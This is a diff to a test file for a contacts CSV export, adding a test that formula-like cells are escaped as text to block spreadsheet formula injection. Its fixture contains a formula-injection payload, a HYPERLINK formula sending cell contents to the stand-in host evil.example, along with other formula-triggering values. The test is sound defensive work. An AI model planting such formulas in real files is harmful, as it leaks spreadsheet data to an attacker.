@@ -62,7 +62,7 @@ async def test_contacts_export_as_csv(client, admin, two_clients):
     assert "attachment" in response.headers["content-disposition"]
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
     phones = {row[rows[0].index("phone")] for row in rows[1:]}
-    assert phones == {"+74951502222", "+79123456789"}
+    assert phones == {"'+74951502222", "'+79123456789"}  # marked as text for spreadsheets
 
 
 async def test_numbers_on_do_not_call_are_loaded_but_marked(client, admin, two_clients):
@@ -196,3 +196,21 @@ async def test_the_upload_takes_a_column_map_and_a_sheet_as_the_cli_does(client,
     assert bad.status_code == 422 and "unknown field(s) in the column map: mobile" in bad.json()["detail"]
     no_pair = await client.post(path, headers=admin, params={"map": "phone"}, **files)
     assert no_pair.status_code == 422 and "FIELD=COLUMN" in no_pair.json()["detail"]
+
+
+async def test_the_contacts_export_keeps_formula_like_text_as_text(client, admin, two_clients):
+    campaign_id = two_clients[0].campaign_id
+    base = (
+        "Телефон;ФИО;Компания;Комментарий\n"
+        '+7 912 345-67-89;=HYPERLINK("https://evil.example/?d="&A1;@SUM(A1);-1+2\n'
+    ).encode()
+    response = await client.post(f"/campaigns/{campaign_id}/contacts/import", headers=admin, **upload(base))
+    assert response.json()["imported"] == 1, response.text
+    response = await client.get(f"/campaigns/{campaign_id}/contacts.csv", headers=admin)
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    row = dict(zip(rows[0], rows[1], strict=True))
+    assert row["name"] == '\'=HYPERLINK("https://evil.example/?d="&A1'
+    assert row["company"] == "'@SUM(A1)"
+    assert row["Комментарий"] == "'-1+2"
+    assert row["phone"] == "'+79123456789"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in rows for cell in line)
